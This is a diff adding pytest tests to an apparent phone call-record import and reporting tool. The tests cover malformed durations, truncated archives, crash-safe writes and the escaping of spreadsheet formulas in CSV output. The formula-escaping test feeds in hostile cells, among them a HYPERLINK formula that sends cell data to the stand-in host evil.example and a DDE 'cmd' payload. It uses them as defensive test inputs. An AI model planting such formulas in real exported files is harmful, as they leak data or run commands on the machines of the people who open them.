@@ -124,3 +124,88 @@ def test_models_add_needs_trust_and_the_shipped_yaml_passes(tmp_path, monkeypatc
     with pytest.raises(ModelError, match="--trust"):
         embedding.add_model(folder, "carried")
     assert not (tmp_path / "models" / "carried").exists()
+
+
+# -- CDR import: bad numbers per row, broken archives, no half-written or plaintext leftovers ----------------
+
+CALLS_HEADER = "number,other,direction,start,duration\n"
+
+
+@pytest.mark.parametrize("bad", ["NaN", "nan", "inf", "-Infinity", "1e309", "99999999999", "-5"])
+def test_absurd_durations_are_rejected_per_row(bad, tmp_path):
+    (tmp_path / "c.csv").write_text(CALLS_HEADER + f"13800138000,13900139000,out,2020-03-01 10:00:00,{bad}\n"
+                                    "13800138000,13900139001,out,2020-03-01 11:00:00,30\n", encoding="utf-8")
+    report = import_calls(tmp_path / "c.csv", tmp_path / "c.parquet", template="generic")
+    assert report.rows_written == 1 and report.malformed == 1
+    assert report.malformed_lines[0]["line"] == 2 and report.malformed_lines[0]["reason"].startswith("bad duration")
+
+
+def test_cli_imports_nan_durations_with_exit_0_and_truncated_gzip_with_exit_8(tmp_path, capsys):
+    import gzip
+
+    from voiceprint.cli import run
+
+    (tmp_path / "c.csv").write_text(CALLS_HEADER + "13800138000,13900139000,out,2020-03-01 10:00:00,NaN\n", encoding="utf-8")
+    assert run(["calls", "import", str(tmp_path / "c.csv"), "--out", str(tmp_path / "c.parquet")]) == 0
+    rows = "".join(f"13800138000,139{i:08d},out,2020-03-01 10:00:00,{i}\n" for i in range(5000))
+    whole = gzip.compress((CALLS_HEADER + rows).encode())
+    (tmp_path / "t.csv.gz").write_bytes(whole[: len(whole) // 2])
+    assert run(["calls", "import", str(tmp_path / "t.csv.gz"), "--out", str(tmp_path / "t.parquet")]) == 8
+    assert "truncated" in capsys.readouterr().err
+    assert not (tmp_path / "t.parquet").exists()
+
+
+def test_gbk_import_leaves_no_plaintext_copy_anywhere(tmp_path, monkeypatch):
+    import tempfile
+
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "systmp"))
+    (tmp_path / "systmp").mkdir()
+    (tmp_path / "c.csv").write_bytes((CALLS_HEADER + "13800138000,13900139000,呼出,2020-03-01 10:00:00,30\n").encode("gbk"))
+    out = tmp_path / "out" / "c.parquet"
+    import_calls(tmp_path / "c.csv", out, template="generic")
+    assert sorted(p.name for p in out.parent.iterdir()) == ["c.parquet", "c.parquet.report.json"]
+    assert not list((tmp_path / "systmp").rglob("*.utf8"))
+
+
+def test_kill_9_during_import_leaves_nothing_under_the_final_name(tmp_path):
+    import subprocess
+    import sys
+
+    (tmp_path / "c.csv").write_text(CALLS_HEADER + "13800138000,13900139000,out,2020-03-01 10:00:00,30\n", encoding="utf-8")
+    out = tmp_path / "out" / "c.parquet"
+    code = (
+        "import os, sys\n"
+        "from voiceprint.calls import ingest\n"
+        "real = os.replace\n"
+        "def die(src, dst):\n"
+        "    os._exit(137)  # like kill -9 just before the rename\n"
+        "ingest.os.replace = die\n"
+        f"ingest.import_calls({str(tmp_path / 'c.csv')!r}, {str(out)!r}, template='generic')\n"
+    )
+    assert subprocess.run([sys.executable, "-c", code]).returncode == 137
+    assert not out.exists()
+    leftovers = list(out.parent.glob(".vp_import_*"))
+    assert leftovers and all((p.stat().st_mode & 0o777) == 0o700 for p in leftovers)
+    import_calls(tmp_path / "c.csv", out, template="generic")  # the next import cleans up after the dead one
+    assert out.exists() and not list(out.parent.glob(".vp_import_*"))
+
+
+# -- CSV outputs never carry a live formula ----------------------------------------------------------------
+
+@pytest.mark.parametrize("name, shown", [
+    ('=HYPERLINK("http://evil.example/?x="&A1,"Zhang")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Zhang")'),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("+8613800138000", "+8613800138000"), ("-1.25", "-1.25"), ("Zhang Wei", "Zhang Wei"),
+])
+def test_csv_cells_from_carriers_are_not_formulas(name, shown, tmp_path):
+    import csv
+    import io
+
+    from voiceprint.report import print_rows, write_csv
+
+    write_csv(tmp_path / "out.csv", [{"name": name, "score": -0.5}], ["name", "score"])
+    buf = io.StringIO()
+    print_rows([{"name": name, "score": -0.5}], ["name", "score"], fmt="csv", out=buf)
+    for text in ((tmp_path / "out.csv").read_text(encoding="utf-8"), buf.getvalue()):
+        row = list(csv.DictReader(io.StringIO(text)))[0]
+        assert row == {"name": shown, "score": "-0.5"}
